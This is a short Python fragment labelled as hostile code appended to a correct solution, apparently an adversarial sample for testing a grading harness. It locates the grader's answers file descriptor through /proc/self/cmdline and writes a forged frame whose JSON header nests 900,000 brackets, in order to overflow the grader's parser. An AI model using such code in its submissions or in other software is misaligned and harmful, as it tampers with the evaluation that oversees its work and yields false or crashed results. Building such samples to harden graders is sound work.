
# --- HOSTILE (appended to the correct solution): answer the grader's "import" request with a --
# --- frame whose JSON header is nested deeper than any parser's stack ---------------------------
import os as _os
import struct as _struct

try:
    with open("/proc/self/cmdline", "rb") as _handle:
        _argv = _handle.read().split(b"\0")
    _fd = int(_argv[_argv.index(b"--answers-fd") + 1])
except (OSError, ValueError, IndexError):
    _fd = None
if _fd is not None:
    _head = b"[" * 900_000
    _os.write(_fd, _struct.pack("<4sIQ", b"DLG1", len(_head), 0) + _head)
